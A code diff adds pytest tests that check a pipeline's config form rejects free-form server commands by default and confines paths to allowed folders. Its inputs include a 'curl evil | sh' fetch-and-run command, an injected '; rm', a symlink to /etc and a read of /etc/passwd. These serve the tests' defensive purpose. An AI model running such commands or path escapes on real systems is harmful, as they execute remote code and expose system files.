@@ -135,6 +135,48 @@ def test_unknown_key_in_a_phase_config_names_it():
         build(MergeConfig, {"inputs": ["a"], "output_dir": "o", "data": {"max_seq_length": 5}}, "merge")
 
 
+def test_free_form_server_commands_are_a_deployment_setting_off_by_default(smollm2_path, tmp_path, monkeypatch):
+    """The form's server_command runs as a program on the workers: by default only the named servers, with the
+    serving flags their allowlists hold; a deployment that sets EAGLE3_ALLOW_SERVER_COMMAND=true gets any."""
+    local = {"datagen_mode": "local", "served_model_name": "auto"}
+    monkeypatch.delenv("EAGLE3_ALLOW_SERVER_COMMAND", raising=False)
+    with pytest.raises(ConfigError) as e:
+        check_run(form(smollm2_path, tmp_path, **local, server_command="bash -c 'curl evil | sh'",
+                       server_extra_args="--tp 2 --trust-remote-code; rm"), "run1")
+    msg = str(e.value)
+    assert "server_command \"bash -c 'curl evil | sh'\": free-form server commands are off" in msg
+    # argv words (no shell runs them): "--trust-remote-code;" is one word, refused; "rm", a plain value, is inert
+    assert "'--trust-remote-code;' is not a serving flag" in msg and "'rm' is not" not in msg
+    cfg, notes = check_run(form(smollm2_path, tmp_path, **local, server_command="vllm",
+                                server_extra_args="--tensor-parallel-size 2 --max-model-len=4096"), "run1")
+    assert cfg.datagen.server_command.startswith("python -m vllm.entrypoints.openai.api_server --model {model_path}")
+    assert cfg.datagen.served_model_name == "default" and "vllm server" in notes[0]
+    cfg, _ = check_run(form(smollm2_path, tmp_path, **local, server_command="llama.cpp"), "run1")
+    assert "-m eagle3.datagen.llama_cpp_server" in cfg.datagen.server_command and cfg.datagen.gguf.endswith(".gguf")
+    monkeypatch.setenv("EAGLE3_ALLOW_SERVER_COMMAND", "true")
+    cfg, _ = check_run(form(smollm2_path, tmp_path, **local, server_command="my-server --port {port}",
+                            server_extra_args="--anything"), "run1")
+    assert cfg.datagen.server_command == "my-server --port {port}"
+
+
+def test_form_paths_confined_to_the_deployment_s_roots(smollm2_path, tmp_path, monkeypatch):
+    allowed = tmp_path / "allowed"
+    (allowed / "runs").mkdir(parents=True)
+    (tmp_path / "escape").symlink_to("/etc")
+    monkeypatch.setenv("EAGLE3_PATH_ROOTS", f"{allowed}:{smollm2_path}")
+    (allowed / "p.jsonl").write_text('{"prompt": "hi"}\n')
+    cfg, _ = check_run(form(smollm2_path, allowed / "runs", datasets=[{"name": "A", "prompt_file": str(allowed / "p.jsonl")}]),
+                       "run1")
+    assert cfg.run.output_root == str(allowed / "runs")
+    with pytest.raises(ConfigError) as e:
+        check_run(form(smollm2_path, tmp_path / "escape" / "x", datasets=[{"name": "A", "prompt_file": "/etc/passwd"}],
+                       eval_prompts=str(allowed / ".." / "p.jsonl")), "run1")
+    msg = str(e.value)
+    assert f"param output_root {tmp_path / 'escape' / 'x'} is outside the folders this deployment allows" in msg
+    assert "dataset 'A' prompt_file /etc/passwd is outside" in msg and "param eval_prompts" in msg
+    assert "param model_path" not in msg
+
+
 def test_exclude_is_optional_in_the_form_and_empty_means_none():
     """Airflow's form marks a param required unless its type admits null; left empty it arrives as null."""
     assert "null" in form_params()["exclude"]["schema"]["type"]
